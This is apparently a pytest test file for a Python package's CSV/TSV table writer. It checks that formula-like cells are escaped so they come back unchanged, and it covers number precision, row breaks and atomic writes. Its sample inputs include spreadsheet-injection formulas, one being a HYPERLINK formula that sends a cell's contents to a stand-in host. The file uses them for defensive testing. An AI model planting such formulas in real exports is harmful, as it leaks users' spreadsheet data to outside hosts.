"""Tables that are written hold text, no formulas, and come back the same."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from phenokit.readers.tables import Column, parse_table
from phenokit.report.tables import (
    format_table,
    guard_cell,
    unguard_cell,
    visible_text,
    write_table,
)

FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1)', "@SUM(1)", "-2+3", "+1+1", "\t=1", " =1"]


@pytest.mark.parametrize("text", [*FORMULAS, "\r\n-1", "\uff1d1+1"])
def test_guard_cell_leaves_nothing_that_a_spreadsheet_runs(text):
    assert guard_cell(text) == "'" + text


@given(st.text() | st.text("'=+-@ \ta", max_size=6))
@settings(max_examples=300, deadline=None)
def test_guard_cell_is_reversible(text):
    assert unguard_cell(guard_cell(text)) == text


def test_format_table_writes_formulas_as_text_that_comes_back():
    table = pd.DataFrame({"person_id": FORMULAS, "note": FORMULAS[::-1]})
    data = format_table(table)
    cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    assert not [cell for cell in cells if cell.strip()[0] in "=+-@"]
    read = parse_table(data, [Column("person_id"), Column("note")])
    pd.testing.assert_frame_equal(read.map(unguard_cell), table)


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_a_line_break_within_a_text_makes_no_row_of_its_own(end):
    hostile = f"name{end}=1+1"
    data = format_table(pd.DataFrame({"a": [hostile, "x"], "b": ["1", "2"]}))
    assert data.endswith(b"x,2\n")
    # As a reader that ends rows at CR, LF or both.
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert rows == [["a", "b"], [hostile, "1"], ["x", "2"]]


def test_format_table_keeps_every_digit_of_numbers_and_no_value_as_no_value():
    table = pd.DataFrame(
        {
            "x": [0.1 + 0.2, -1e-320, np.nan],
            "f": np.array([0.1, -2, 3], np.float32),
            "n": [-1, 2**60, 0],
            "ok": [True, False, True],
            "t": pd.to_datetime(["2024-03-31T00:30Z", None, "2024-03-31T00:30Z"]),
            "c": ["008", None, "NA"],
        }
    )
    lines = format_table(table, separator="\t").decode().split("\n")
    assert lines[1].split("\t")[:4] == [
        *("0.30000000000000004", "0.10000000149011612", "-1", "1"),
    ]
    assert lines[2] == "-1e-320\t-2.0\t1152921504606846976\t0\t\t"
    assert lines[3] == "\t3.0\t0\t1\t2024-03-31T00:30:00+00:00\tNA"


def test_format_table_guards_the_header():
    assert format_table(pd.DataFrame({"=1": [1]})) == b"'=1\n1\n"


@pytest.mark.parametrize(("cell", "words"), [("a\0", "NUL"), ([1], "list")])
def test_format_table_refuses_what_no_table_can_hold(cell, words):
    with pytest.raises(ValueError, match=words):
        format_table(pd.DataFrame({"x": [cell]}))


def test_write_table_replaces_the_file_and_leaves_no_other(tmp_path):
    path = tmp_path / "out.csv"
    for value in (1, 2):
        write_table(path, pd.DataFrame({"x": [value]}))
    assert path.read_bytes() == b"x\n2\n"
    assert list(tmp_path.iterdir()) == [path]


def test_visible_text_tells_look_alikes_apart():
    names = ["e\u0301", "\u00e9", "A", "\u0391", "a\u202eb", "a\u200bb"]
    shown = [visible_text(name) for name in names]
    assert len(set(shown)) == len(names)
    assert all(text.isascii() and text.isprintable() for text in shown)
